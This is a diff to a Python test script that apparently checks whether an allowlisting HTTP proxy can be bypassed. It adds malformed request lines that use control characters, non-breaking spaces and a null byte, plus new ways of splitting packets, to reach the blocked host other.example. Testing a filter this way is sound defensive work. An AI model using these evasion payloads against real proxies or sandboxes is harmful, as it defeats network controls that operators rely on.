@@ -4,7 +4,8 @@
 # stopped-by: gate-hello
 # network: {"rules": [{"allow": "allowed.example", "ports": [80, 8081, 8082]}]}
 #
-# What the proxy does not recognise as HTTP passes unread; servers skip empty lines and take tabs for spaces.
+# What the proxy does not recognise as HTTP passes unread; servers skip empty lines and take other
+# white space for spaces.
 import socket
 
 _FIRST_LINES = (
@@ -17,6 +18,9 @@ _FIRST_LINES = (
     "GET / HTTP/1.10\r\n",
     "GET / HTTP/1.1 \r\n",
     "M@CH / HTTP/1.1\r\n",
+    *(space + "GET / HTTP/1.1\r\n" for space in "\x1c\x1d\x1e\x1f\x85\xa0"),
+    "GET\xa0/\x1fHTTP/1.1\r\n",
+    "GET /\0 HTTP/1.1\r\n",
 )
 
 
@@ -40,8 +44,8 @@ def attack():
         return "BROKEN: not even the right host is answered"
     for line in _FIRST_LINES:
         for port in (80, 8081, 8082):
-            text = (line + rest.format("other.example")).encode()
-            for pieces in ([text], [text[:1], text[1:]]):
+            text = (line + rest.format("other.example")).encode("latin-1")
+            for pieces in ([text], [text[:1], text[1:]], [text[:6], text[6:]]):
                 answer = _talk(port, pieces)
                 if b'"host": "other.example"' in answer or b"SERVED" in answer:
                     return f"ESCAPED: answered as other.example: {line!r}, port {port}"
